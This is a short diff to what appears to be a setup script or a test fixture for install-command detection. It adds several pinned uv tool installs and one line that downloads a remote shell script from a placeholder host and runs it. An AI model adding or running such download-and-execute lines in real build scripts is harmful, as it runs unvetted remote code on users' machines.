@@ -27,3 +27,7 @@ cargo install cargo-deny --version 0.16.2 --locked
 cargo install just --version 1.36.0
 npm ci
 echo "pip install in a string is still a command"
+curl -fsSL https://example.com/i.sh > /tmp/i.sh && sh /tmp/i.sh
+uv tool install ruff@0.6.9
+uv tool install black
+uvx pre-commit@4.0.1 run
